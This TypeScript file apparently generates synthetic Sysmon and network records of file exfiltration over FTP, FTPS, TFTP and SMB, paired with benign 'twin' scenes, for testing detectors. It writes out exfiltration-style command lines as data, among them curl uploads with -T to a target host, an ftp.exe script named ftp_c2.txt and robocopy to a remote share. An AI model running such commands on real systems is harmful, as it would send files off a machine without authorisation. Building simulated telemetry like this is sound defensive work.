import type { EventRow } from '../../sql/store.ts';
import type { Session } from '../session.ts';
import { control, passiveData, tlsControl } from '../stories/ftp-session.ts';
import type { SignalName } from './order.ts';
import { folderOf, portOf, program, shell, urlHost, type Scene, type Traces } from './scene.ts';
import { connected, fileCreated, processCreated, type SysmonProcess } from './sysmon-records.ts';

type HostRecords = (readonly [SignalName, EventRow])[];
type Parent = SysmonProcess & { readonly command: string };

/** ftp.exe carries out a script that a shell wrote before. What it sends are commands, so they are all in the session itself. */
export function ftpScript(scene: Scene): Traces {
  const { host, startMs } = scene;
  const script = `${folderOf(scene)}ftp_c2.txt`;
  const written: HostRecords = scene.isFirst
    ? [['file', fileCreated(host, startMs, shell(scene), script)]]
    : [];
  const { host: own, ...wire } = ftpProgram(scene, `ftp.exe -n -i -s:${script}`, shell(scene));
  return { ...wire, host: [...written, ...own] };
}

/** The twin: somebody types into ftp.exe. The marker is in what its shell was told. */
export function ftpByHand(scene: Scene): Traces {
  const { marker, target } = scene;
  const typed = `cmd.exe /c "echo ${marker}>nul& (echo user anonymous ${marker}@example.invalid& echo quit) | ftp.exe -n -i ${target}"`;
  const parent = { ...program(scene, 'cmd.exe'), command: typed };
  return ftpProgram(scene, `ftp.exe -n -i ${target}`, parent);
}

function ftpProgram(scene: Scene, command: string, parent: Parent): Traces {
  const session = { ...ftpSession(scene, 'ftp'), sent: Math.max(60, scene.bytes) };
  const ftp = program(scene, 'ftp.exe');
  return { host: ran(scene, ftp, command, parent, session), control: session, data: [] };
}

type Scheme = 'ftp' | 'ftps' | 'tftp';
const ports = { ftp: 21, ftps: 990, tftp: 69, smb: 445 } as const;

/** curl on Linux sends a file. */
export function curlUpload(scene: Scene, scheme: Scheme): Traces {
  const { host, startMs, marker } = scene;
  const file = `${folderOf(scene)}t1071_upload.bin`;
  const made = fileCreated(host, startMs, program(scene, 'head'), file);
  const command = `curl --silent --show-error -T ${file} ${scheme}://${urlHost(scene.target)}/${marker}.bin`;
  const { host: own, ...wire } = curl(scene, command, scheme, 'sent');
  return { ...wire, host: [['file', made], ...own] };
}

/** The twin: curl fetches a file. */
export function curlDownload(scene: Scene, scheme: Scheme): Traces {
  const { host, startMs } = scene;
  const file = `${folderOf(scene)}notes.txt`;
  const command = `curl --silent --show-error -o ${file} ${scheme}://${urlHost(scene.target)}/pub/notes.txt`;
  const { host: own, ...wire } = curl(scene, command, scheme, 'received');
  const fetched = fileCreated(host, startMs + 6500, program(scene, 'curl'), file);
  return { ...wire, host: [...own, ['file', fetched]] };
}

type Way = 'sent' | 'received';

function curl(scene: Scene, command: string, scheme: Scheme, way: Way): Traces {
  const session = scheme === 'tftp' ? tftpRequest(scene) : ftpSession(scene, scheme);
  const data = scheme === 'tftp' ? tftpData(scene, session, way) : ftpData(scene, session, way);
  // A bare name, as real records of Sysmon for Linux have it.
  const bare = { ...program(scene, 'curl'), image: 'curl' };
  const [process] = ran(scene, program(scene, 'curl'), command, shell(scene), session);
  const connection = connected(scene.host, session.startMs, bare, session);
  return {
    host: [...(process ? [process] : []), ['connection', connection]],
    control: session,
    data: [data],
  };
}

function ftpSession(scene: Scene, scheme: 'ftp' | 'ftps'): Session {
  const { host, target, startMs, random } = scene;
  const write = scheme === 'ftps' ? tlsControl : control;
  return write(random, {
    startMs: startMs + 1000,
    durationMs: 6000,
    source: host.address,
    destination: target,
    port: ports[scheme],
    user: host.user,
  });
}

/** The client opens a second connection to a port that the server chose. */
function ftpData(scene: Scene, session: Session, way: Way): Session {
  const { random, bytes } = scene;
  const sent = passiveData(session, random, bytes, random.between(50_000, 59_999));
  return way === 'sent' ? sent : { ...sent, sent: 0, received: bytes };
}

/** The request is one packet to the known port. */
function tftpRequest(scene: Scene): Session {
  const { host, target, startMs, marker } = scene;
  return {
    startMs: startMs + 1000,
    durationMs: 500,
    source: host.address,
    sourcePort: portOf(scene),
    destination: target,
    destinationPort: ports.tftp,
    transport: 'udp',
    sent: 22 + marker.length,
    received: 0,
    user: host.user,
  };
}

/** The file runs between two high ports, and the server's side opens that (RFC 1350, 4); each block of 512 bytes is acknowledged with 4 (RFC 1350, 2). */
function tftpData(scene: Scene, request: Session, way: Way): Session {
  const acknowledged = 4 * (1 + Math.floor(scene.bytes / 512));
  return {
    ...request,
    startMs: request.startMs + 200,
    durationMs: 5000,
    source: request.destination,
    sourcePort: scene.random.between(40_000, 48_000),
    destination: request.source,
    destinationPort: request.sourcePort,
    sent: way === 'sent' ? acknowledged : scene.bytes,
    received: way === 'sent' ? scene.bytes : acknowledged,
  };
}

/** Files are copied to a share; the system itself opens the connection, not the program that was called. */
export function smbCopy(scene: Scene): Traces {
  const { host, startMs, marker, target } = scene;
  const file = `${folderOf(scene)}${marker}_smb.bin`;
  const command = `robocopy.exe "${folderOf(scene).slice(0, -1)}" "\\\\${target}\\public\\${marker}" /r:0 /w:0 /njh /njs`;
  const { host: own, ...wire } = smb(scene, 'robocopy.exe', command, scene.bytes + 4200);
  return { ...wire, host: [['file', fileCreated(host, startMs, shell(scene), file)], ...own] };
}

/** The twin: the share is listed. */
export function smbList(scene: Scene): Traces {
  const command = `cmd.exe /c "echo ${scene.marker}>nul& dir \\\\${scene.target}\\public"`;
  return smb(scene, 'cmd.exe', command, 2600);
}

function smb(scene: Scene, name: string, command: string, sent: number): Traces {
  const { host, startMs, target } = scene;
  const session: Session = {
    startMs: startMs + 1000,
    durationMs: 6000,
    source: host.address,
    sourcePort: portOf(scene),
    destination: target,
    destinationPort: ports.smb,
    transport: 'tcp',
    sent,
    received: 5600,
    user: host.user,
  };
  const system: SysmonProcess = { ...program(scene, 'System', 'System'), id: 4 };
  const running = program(scene, name);
  return {
    host: [
      ['process', processCreated(host, startMs + 500, running, command, shell(scene))],
      ['connection', connected(host, session.startMs, system, session)],
    ],
    control: session,
    data: [],
  };
}

/** A program was started and opened a connection. */
function ran(
  { host, startMs }: Scene,
  running: SysmonProcess,
  command: string,
  parent: Parent,
  session: Session,
): HostRecords {
  return [
    ['process', processCreated(host, startMs + 500, running, command, parent)],
    ['connection', connected(host, session.startMs, running, session)],
  ];
}
